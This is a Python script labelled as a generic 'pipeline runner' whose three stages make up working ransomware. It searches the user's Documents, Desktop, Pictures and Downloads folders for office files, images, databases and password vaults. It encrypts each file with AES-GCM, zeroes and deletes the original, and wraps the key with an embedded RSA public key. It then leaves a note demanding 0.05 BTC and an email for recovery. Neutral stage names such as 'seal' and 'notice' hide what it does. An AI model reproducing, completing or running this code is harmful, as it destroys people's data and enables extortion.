#!/usr/bin/env python3
"""Pipeline runner: stages are looked up by name in STAGES and run in order.

Default pipeline (pipeline.json may override): discover -> seal -> notice
"""
import json
import logging
import os
import secrets
import sys
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("pipeline")
STAGES = {}
DEFAULT_PIPELINE = ["discover", "seal", "notice"]
TARGET_EXT = {".docx", ".xlsx", ".pdf", ".jpg", ".png", ".pptx", ".odt", ".csv",
              ".sqlite", ".psd", ".zip", ".txt", ".md", ".kdbx"}
SKIP_DIRS = {".cache", ".local", "node_modules", ".git", "snap"}
PUBKEY_PEM = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAwV3kq8Yb9hT0m2u7rjq1
n0Qe3oZyQf8Z0m8Xy8hW1k0t6qP4l2rJ8dV3cA1s9e7Hq2n4L0bX5y6wQk3ZpR7u
-----END PUBLIC KEY-----"""


def stage(name):
    def deco(fn):
        STAGES[name] = fn
        return fn
    return deco


@stage("discover")
def discover(state):
    roots = [Path.home() / d for d in ("Documents", "Desktop", "Pictures", "Downloads")]
    roots += [Path(p) for p in state.get("extra_roots", [])]
    found = []
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for fn in filenames:
                p = Path(dirpath) / fn
                if p.suffix.lower() in TARGET_EXT:
                    found.append(p)
    state["files"] = found
    log.info("discovered %d files", len(found))


@stage("seal")
def seal(state):
    key = AESGCM.generate_key(bit_length=256)
    aes = AESGCM(key)
    sealed = 0
    for path in state.get("files", []):
        try:
            data = path.read_bytes()
            nonce = secrets.token_bytes(12)
            out = path.with_name(path.name + ".sealed")
            out.write_bytes(nonce + aes.encrypt(nonce, data, None))
            with open(path, "r+b") as fh:
                fh.write(b"\0" * len(data))
            path.unlink()
            sealed += 1
        except OSError:
            continue
    try:
        pub = serialization.load_pem_public_key(PUBKEY_PEM)
        state["wrapped_key"] = pub.encrypt(
            key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()), algorithm=hashes.SHA256(), label=None)
        ).hex()
    except ValueError:
        state["wrapped_key"] = "unavailable"
    del key, aes
    state["sealed"] = sealed
    log.info("sealed %d files", sealed)


@stage("notice")
def notice(state):
    text = (
        f"{state.get('sealed', 0)} of your files were encrypted.\n"
        "To recover them send 0.05 BTC to bc1qx7f3lz0s9k2mzr6v8d4yq0p5w3n2h8tq6e4j9u\n"
        "and mail the ID below to restore-desk@proton.me\n\n"
        f"ID: {state.get('wrapped_key', '')}\n"
    )
    for d in ("Desktop", "Documents"):
        target = Path.home() / d
        if target.is_dir():
            (target / "RESTORE_FILES.txt").write_text(text)


def main():
    logging.basicConfig(level=logging.INFO, format="%(message)s")
    cfg = {}
    if os.path.exists("pipeline.json"):
        with open("pipeline.json") as fh:
            cfg = json.load(fh)
    state = {"extra_roots": cfg.get("extra_roots", [])}
    for name in cfg.get("pipeline", DEFAULT_PIPELINE):
        fn = STAGES.get(name)
        if fn is None:
            log.warning("no such stage: %s", name)
            continue
        fn(state)
    return 0


if __name__ == "__main__":
    sys.exit(main())
